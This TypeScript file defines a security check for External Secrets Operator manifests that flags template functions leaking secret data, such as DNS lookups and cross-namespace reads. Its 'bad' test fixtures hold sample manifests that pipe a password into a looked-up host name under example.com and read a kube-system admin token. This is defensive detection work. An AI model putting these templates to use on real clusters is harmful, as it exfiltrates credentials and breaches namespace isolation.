import { defineRule } from '../check/rule.ts'
import { FETCHING_KINDS, PUSHING_KINDS } from '../model/eso/external-secrets.ts'
import { type Action, actionsOf } from '../model/eso/go-template.ts'
import { runsIn, type VersionRange } from '../model/eso/installed-versions.ts'
import { templatesOf } from '../model/eso/templates.ts'

export default defineRule({
  id: 'dangerous-template-function',
  title: 'A template calls a function that reads, resolves or leaks secret data',
  severities: ['high', 'medium'],
  kinds: [...FETCHING_KINDS, ...PUSHING_KINDS],
  why: 'Templates run in the operator, with its network and its rights. getHostByName carries a secret value out as a host name that is looked up (CVE-2026-34984), getSecretKey reads Secrets of other namespaces (CVE-2026-22822), and what fail is given stands in an event that more people may read than the Secret.',
  remedy:
    'Remove the call. Upgrade External Secrets Operator: getSecretKey is gone with 1.2.0 and getHostByName with 2.3.0. Give `fail` a fixed text; the key at fault is named in the error anyway.',
  references: [
    'https://github.com/advisories/GHSA-r2pg-r6h7-crf3',
    'https://github.com/advisories/GHSA-77v3-r3jw-j2v2',
    'https://external-secrets.io/latest/guides/templating/',
  ],
  guide: ['AC3'],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v1.1.0" }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: leak, namespace: shop }
spec:
  target:
    template:
      metadata:
        annotations:
          address: '{{ printf "%s.example.com" .password | getHostByName }}' # finding: getHostByName looks up a name, and so can carry a secret value out through DNS
      data:
        other: '{{ getSecretKey "kube-system" "admin" "token" }}' # finding: getSecretKey reads Secrets of other namespaces
      templateFrom:
        - literal: | # finding: fail puts what it is given into an event
            {{- if not .user }}{{ fail (printf "no user in %v" .) }}{{ end }}
            user: {{ .user }}
  dataFrom:
    - extract: { key: shop }
      rewrite:
        - transform: { template: "{{ .value | getHostByName }}" } # finding: getHostByName looks up a name
`,
    `
# No operator in the set says its version.
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: leak, namespace: shop }
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: shop } }
  template:
    data:
      address: "{{ getHostByName .host }}" # finding[medium]: getHostByName looks up a name, and so can carry a secret value out through DNS, unless the operator is 2.3.0 or newer
`,
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
# This operator has neither function, and no version has env; a template that calls them is not rendered.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: gone, namespace: shop }
spec:
  target:
    template:
      data:
        address: "{{ getHostByName .host }}"
        token: '{{ getSecretKey "a" "b" "c" }}'
        environment: '{{ env "HOME" }}'
  dataFrom: [{ extract: { key: shop } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: words, namespace: shop }
spec:
  target:
    template:
      data:
        text: 'fail .password {{ "getHostByName" | upper }} {{/* fail .password */}} {{ .fail }} {{ $fail := .a }}'
        fixed: '{{ if not .user }}{{ fail "no user" }}{{ end }}'
        usual: '{{ .ca | b64dec | toYaml | nindent 2 }} {{ htpasswd .user .password }}'
  dataFrom: [{ extract: { key: shop } }]
`,
  ],
  *check(manifest, world) {
    for (const { path, text } of templatesOf(manifest)) {
      const actions = actionsOf(text)
      for (const { name, does, range, isDangerous } of DANGEROUS) {
        const state = actions.some(isDangerous) ? runsIn(range, world) : 'no'
        if (state === 'no') continue
        const isSure = state === 'yes' || range.until === undefined
        yield {
          path,
          discriminator: name,
          message: isSure ? `${name} ${does}` : `${name} ${does}, unless the operator is ${range.until} or newer`,
          ...(!isSure && { severity: 'medium' }),
        }
      }
    }
  },
})

interface DangerousFunction {
  readonly name: string
  readonly does: string
  /** The versions that have it. */
  readonly range: VersionRange
  isDangerous(action: Action): boolean
}

const calls =
  (name: string) =>
  ({ functions }: Action): boolean =>
    functions.includes(name)

/** As of 2.9.0, the rest of template engine v2 neither reads nor sends anything. `env` and `expandenv` were never in it. */
const DANGEROUS: readonly DangerousFunction[] = [
  {
    name: 'getHostByName',
    does: 'looks up a name, and so can carry a secret value out through DNS',
    range: { until: '2.3.0' },
    isDangerous: calls('getHostByName'),
  },
  {
    name: 'getSecretKey',
    does: 'reads Secrets of other namespaces',
    range: { since: '0.20.2', until: '1.2.0' },
    isDangerous: calls('getSecretKey'),
  },
  {
    name: 'fail',
    does: 'puts what it is given into an event, and here that is data of the Secret',
    range: {},
    isDangerous: action => calls('fail')(action) && action.readsData,
  },
]
